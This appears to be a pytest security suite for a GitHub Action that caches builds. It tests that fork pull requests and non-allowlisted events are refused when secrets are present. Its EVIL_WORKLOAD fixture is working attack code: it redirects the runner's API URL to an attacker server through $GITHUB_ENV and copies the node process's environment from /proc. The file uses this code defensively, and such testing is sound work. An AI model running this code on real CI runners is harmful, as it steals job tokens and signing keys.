"""Issue 32: a fork's code never runs beside a secret, and internal steps pass data explicitly.

The real `node js/main.js` (and `js/post.js`) under tests/runner_sim.py, which applies file
commands as GitHub's runner does, with tests/fake_github.py as the GitHub API and a second
one as the attacker's server. The workload module is what a fork's pull request would
bring: when verify imports it, it (a) appends `GITHUB_API_URL=<attacker>` to the step's
$GITHUB_ENV file (found by name or by listing the runner's file-command directory) and
(b) copies `/proc/<node pid>/environ` of the action's own node process.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import ROOT, TORCH_PYTHON
from tests.fake_github import FakeGitHub
from tests.runner_sim import Runner
from tests.test_action_steps import REPO_ID, pull_request_event

KEY = "team-signing-key-0123"
AWS_SECRET = "aws-secret-access-key-value"
TOOLKIT = str(Path(sys.executable).with_name("fxcache"))

EVIL_WORKLOAD = """
import glob, os
out = os.environ["ATTACK_OUT"]
# (a) redirect the API the action's later steps talk to
files = [os.environ["GITHUB_ENV"]] if os.environ.get("GITHUB_ENV") else []
files += glob.glob(os.path.join(os.environ.get("RUNNER_TEMP", "/nonexistent"),
                                "_runner_file_commands", "set_env_*"))
for path in files:
    with open(path, "a") as fh:
        fh.write("GITHUB_API_URL=" + os.environ["ATTACKER_URL"] + "\\n")
# (b) read the action's node process: the parent chain up to `node .../js/main.js`
pid = os.getpid()
while pid > 1:
    with open(f"/proc/{pid}/status") as fh:
        pid = int(next(l for l in fh if l.startswith("PPid:")).split()[1])
    with open(f"/proc/{pid}/cmdline", "rb") as fh:
        if b"js/main.js" in fh.read():
            with open(f"/proc/{pid}/environ", "rb") as src, open(out, "wb") as dst:
                dst.write(src.read())
            break

def _model(x):
    raise RuntimeError("this workload only attacks")

def factory(dtype, device):
    import torch
    return {"model": _model, "inputs": (torch.ones(2, dtype=dtype, device=device),)}
"""


def _job(tmp_path: Path, event_name: str, event: dict[str, Any], api: str,
         attacker: str) -> Runner:  # fmt: skip
    pkg = tmp_path / "fork-code"
    pkg.mkdir()
    (pkg / "evil_workload.py").write_text(EVIL_WORKLOAD)
    env = {
        "PATH": "/usr/local/bin:/usr/bin:/bin",
        "HOME": str(tmp_path),
        "PYTHONPATH": str(pkg),
        "ATTACK_OUT": str(tmp_path / "node-environ"),
        "ATTACKER_URL": attacker,
        "AWS_ACCESS_KEY_ID": "AKIAEXAMPLE",
        "AWS_SECRET_ACCESS_KEY": AWS_SECRET,
    }
    return Runner(tmp_path, event_name, event, env, api_url=api)


WITH = {
    "python": TORCH_PYTHON,
    "workloads": "evil_workload:factory",
    "device": "cpu",
    "dtypes": "float32",
    "dynamic": "false",
    "mechanisms": "fxgraph",
    "training": "false",
    "signing-key": KEY,
    "toolkit": TOOLKIT,
}


def test_a_forks_pull_request_target_run_refuses_to_start_with_secrets(tmp_path: Path) -> None:
    """A fork's workload in a pull_request_target run: the action stops in its first step
    with one ::error:: line naming what it was given and the supported way; no workload
    ever runs, so nothing reaches the attacker and nothing reads the node process."""
    fork = pull_request_event(head_name="someone/demo", head_id=REPO_ID + 1, head_fork=True)
    with FakeGitHub(repository="octo-org/demo", token="ghs_job_token") as api, \
            FakeGitHub(repository="octo-org/demo", token="none") as attacker:  # fmt: skip
        api.add_pull(7)
        runner = _job(tmp_path, "pull_request_target", fork, api.url, attacker.url)
        main = runner.uses(ROOT, {**WITH, "cache-root": str(tmp_path / "store")})
        posts = runner.post()
        stolen = [r.headers.get("authorization") for r in attacker.requests]
        assert stolen == [], "the job's token went to the attacker"
        assert not (tmp_path / "node-environ").exists(), "the fork's workload read node's inputs"
        assert main.returncode == 2, main.log
        assert len(main.errors) == 1, main.log
        error = main.errors[0]
        assert "may execute code the repository did not review" in error
        assert "pull_request_target event" in error
        for given in ("github-token", "signing-key", "AWS_SECRET_ACCESS_KEY"):
            assert given in error, error
        assert "workflows/fxcache-comment-fork.yml" in error
        assert "fork's own pull_request run" in error
        assert api.requests == [] and not (tmp_path / "store").exists()
        assert all(p.returncode == 0 for p in posts), [p.log for p in posts]


def test_a_trusted_run_keeps_its_api_and_saves(tmp_path: Path) -> None:
    """A same-repository pull request runs as before. Its workload's $GITHUB_ENV line does
    not reach the comment step (the comment goes to the run's own API with its token); the
    end-of-job save commits. What no in-job protection stops: code of the job's own user
    reads the action's inputs from /proc of its node process (docs/security.md)."""
    event = pull_request_event()
    with FakeGitHub(repository="octo-org/demo", token="ghs_job_token") as api, \
            FakeGitHub(repository="octo-org/demo", token="none") as attacker:  # fmt: skip
        api.add_pull(7)
        runner = _job(tmp_path, "pull_request", event, api.url, attacker.url)
        main = runner.uses(ROOT, {**WITH, "cache-root": str(tmp_path / "store")})
        stolen = [r.headers.get("authorization") for r in attacker.requests]
        assert stolen == [], "the job's token went to the attacker"
        assert main.returncode == 0, main.log
        posted = api.calls("POST", r"/repos/octo-org/demo/issues/7/comments")
        assert len(posted) == 1 and api.violations == [], api.violations
        assert KEY in main.masks
        (post,) = runner.post()
        assert post.returncode == 0 and '"saved": true' in post.log, post.log
        # The post step puts the job's own line under the comment's status (docs/job-stats.md).
        (body,) = [str(c["body"]) for c in api.comments[7]]
        lines = body.splitlines()
        status = next(i for i, line in enumerate(lines) if line.startswith("### fxcache:"))
        assert lines[status + 2].startswith("**your job:"), body[:400]
        assert api.violations == [], api.violations
        # The documented limit: the workload ran as the job's user and read node's inputs.
        seen = (tmp_path / "node-environ").read_bytes()
        assert KEY.encode() in seen


@pytest.mark.parametrize(
    ("event_name", "head_id", "given", "refused"),
    [
        ("pull_request_target", REPO_ID + 1, ["github-token"], True),
        ("pull_request_target", REPO_ID, ["signing-key"], True),  # no payload can clear it
        ("workflow_run", None, ["AWS_SECRET_ACCESS_KEY"], True),
        ("issue_comment", None, ["ACTIONS_ID_TOKEN_REQUEST_TOKEN"], True),
        ("pull_request", REPO_ID + 1, ["signing-key"], True),
        ("pull_request", REPO_ID + 1, ["redis-url"], True),
        ("pull_request", REPO_ID + 1, ["github-token"], False),  # GitHub makes it read-only
        ("pull_request", REPO_ID, ["github-token", "signing-key"], False),
        ("push", None, ["github-token", "signing-key", "AWS_SECRET_ACCESS_KEY"], False),
        ("pull_request_target", REPO_ID + 1, [], False),
    ],
)
def test_which_runs_may_hold_which_secrets(
    event_name: str, head_id: int | None, given: list[str], refused: bool
) -> None:
    from ci_fxcache.store import trust
    from tests.runner_sim import run_event

    payload = pull_request_event(head_id=head_id) if head_id is not None else {}
    event = trust.RunEvent.from_input(run_event(event_name, payload), event_name)
    assert (trust.refusal(event, given) is not None) is refused


@pytest.mark.parametrize(
    "event_name",
    ["issues", "discussion", "discussion_comment", "check_run", "fork", "watch", "label",
     "gollum", "some_future_event"],
)  # fmt: skip
def test_an_event_not_on_the_allowlist_is_refused_with_a_secret_naming_the_event(
    event_name: str,
) -> None:
    """Issue 39: the events admitted with secrets are an allowlist. Events outsiders start
    (`issues`, `watch`, `fork`...) and names fxcache does not know are refused with any
    secret, the message naming the event; without one the run restores read-only."""
    from ci_fxcache.store import trust
    from tests.runner_sim import run_event

    event = trust.RunEvent.from_input(run_event(event_name, {}), event_name)
    why = trust.refusal(event, ["signing-key"])
    assert why is not None and f"event {event_name!r} is not one fxcache admits" in why, why
    assert trust.refusal(event, []) is None
    assert trust.unreviewed_code(event) is not None  # read-only, never writes


@pytest.mark.parametrize(
    "event_name",
    ["push", "schedule", "workflow_dispatch", "merge_group", "release", "repository_dispatch"],
)
def test_the_admitted_events_keep_their_secrets(event_name: str) -> None:
    from ci_fxcache.store import trust
    from tests.runner_sim import run_event

    event = trust.RunEvent.from_input(run_event(event_name, {}), event_name)
    assert trust.refusal(event, ["signing-key", "github-token"]) is None
    assert trust.unreviewed_code(event) is None


def test_the_run_event_is_the_runners_not_the_event_file(tmp_path: Path) -> None:
    """A step rewrote $GITHUB_EVENT_PATH to make a fork's pull request look like the
    repository's own: setup decides from the runner's record (run-event) all the same."""
    from tests.runner_sim import run_event
    from tests.test_action_steps import run_step

    fork = pull_request_event(head_name="someone/demo", head_id=REPO_ID + 1)

    s = run_step(tmp_path, "setup", {"run-event": run_event("pull_request", fork)},
                 event=pull_request_event())  # the planted file says: same repository  # fmt: skip
    assert s.proc.returncode == 0, s.lines
    assert s.settings()["read_only"] is True
    assert s.settings()["untrusted"] == "pull request from fork someone/demo"
    (tmp_path / "x").mkdir()
    other = run_step(tmp_path / "x", "setup", {"run-event": json.dumps({"event_name": "push"})})
    assert other.proc.returncode == 2 and len(other.errors) == 1
    assert "names event 'push', the runner says 'pull_request'" in other.errors[0]


def test_gcs_and_azure_credentials_are_secrets_like_aws_keys() -> None:
    """Issue 48: a bucket on GCS or Azure has its own credential variables. Each counts as a
    secret as AWS's keys do: a fork's run holding one is refused, and no program fxcache did
    not write (the user's interpreter) gets it; the services' settings stay."""
    from ci_fxcache import names
    from ci_fxcache.store import trust
    from tests.runner_sim import run_event

    settings = {"AZURE_STORAGE_ACCOUNT_NAME": "acct", "GOOGLE_BASE_URL": "http://gcs.internal"}
    env = {"AZURE_STORAGE_ACCOUNT_KEY": "k", "GOOGLE_BEARER_TOKEN": "t", **settings}
    given = trust.given_secrets({}, env)
    assert given == ["GOOGLE_BEARER_TOKEN", "AZURE_STORAGE_ACCOUNT_KEY"]
    fork = trust.RunEvent.from_input(
        run_event("pull_request", pull_request_event(head_id=REPO_ID + 1)), "pull_request"
    )
    assert trust.refusal(fork, given) is not None
    assert names.without_secrets(env) == settings
